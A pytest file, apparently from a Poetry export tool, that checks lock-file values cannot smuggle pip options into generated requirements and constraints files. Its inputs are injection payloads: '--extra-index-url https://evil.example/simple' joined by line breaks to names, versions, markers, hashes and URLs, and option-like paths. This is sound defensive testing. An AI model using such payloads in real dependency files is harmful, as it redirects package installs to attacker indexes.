"""A lock that comes with a stranger's pull request: what it says never becomes a line or an option of its own."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from tests.support.every import for_each
from tests.unit.export.locked import HASH, MAIN, edge, exported, index, package

from poetry_aiops.errors import InputError
from poetry_aiops.export.header import with_header
from poetry_aiops.export.model import FilePlan, Pin
from poetry_aiops.export.requirements_text import render_constraints, render_requirements
from poetry_aiops.project.model import PackageSource


if TYPE_CHECKING:
    from poetry_aiops.project.model import Package


EVIL = "--extra-index-url https://evil.example/simple"
ENDS = ["\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028"]
PLAN = FilePlan("requirements.txt", "requirements", MAIN)
CONSTRAINTS = FilePlan("constraints.txt", "constraints", MAIN)


def body(*packages: Package, marker: str = "") -> str:
    pins = tuple(Pin(one, marker) for one in packages)
    return render_requirements(PLAN, exported(pins), None)[0].text


def is_option(line: str) -> bool:
    return line.lstrip().startswith("-") and "evil" in line


@for_each("end", ENDS)
@for_each("field", ["name", "version"])
def test_a_line_end_in_a_name_or_a_version_is_refused(field: str, end: str) -> None:
    evil = replace(package("alpha"), **{field: f"alpha{end}{EVIL}"})  # type: ignore[arg-type]  # two texts
    with pytest.raises(InputError, match="line break or another control character"):
        body(evil)
    with pytest.raises(InputError, match="line break or another control character"):
        render_constraints(CONSTRAINTS, exported((Pin(evil),)))


def test_a_line_end_in_a_marker_is_refused() -> None:
    with pytest.raises(InputError, match="line break"):
        body(package("alpha"), marker=f"python_version > '3'\n{EVIL}")


@pytest.mark.parametrize("digest", [f"{HASH}\n{EVIL}", f"{HASH} {EVIL}", "sha256:", "sha256:xyz"])
def test_a_hash_that_is_none_is_not_written(digest: str) -> None:
    text = body(package("alpha", hash_=digest))
    assert "evil" not in text
    assert "has no hash in poetry.lock" in text


@for_each("end", [*ENDS, " "])
def test_an_address_of_an_index_stays_one_word(end: str) -> None:
    text = body(package("alpha", source=index("evil", f"https://evil.example/{end}{EVIL}")))
    assert [line for line in text.splitlines() if is_option(line)] == [
        line for line in text.splitlines() if line.startswith("--index-url ") and line.count(" ") == 1
    ]


@pytest.mark.parametrize("kind", ["url", "git"])
def test_an_address_of_a_package_stays_one_word(kind: str) -> None:
    source = PackageSource(kind, f"https://evil.example/x\n{EVIL}", None, "abc")
    lines = body(package("alpha", source=source)).splitlines()
    assert [line for line in lines if is_option(line)] == []
    assert sum("evil.example/x" in line for line in lines) == 1


@for_each("kind", ["file", "directory"])
@for_each("path", ["--index-url=https://evil.example/simple", "-r../evil.txt", "-e evil:x"])
def test_a_path_is_never_an_option(kind: str, path: str) -> None:
    lines = body(package("alpha", source=PackageSource(kind, path))).splitlines()
    assert [line for line in lines if is_option(line)] == []


def test_names_in_comments_end_no_comment() -> None:
    evil = replace(package("beta", edges=(edge("alpha"),)), name="beta")
    parent = replace(evil, name=f"x\n{EVIL}", pretty_name="x")
    with pytest.raises(InputError):
        body(package("alpha"), parent)
    text = with_header("requirements.txt", "d" * 64, [f"Holds main\n{EVIL}", f"a\r{EVIL}"], "alpha==1.0")
    assert [line for line in text.splitlines() if is_option(line)] == []
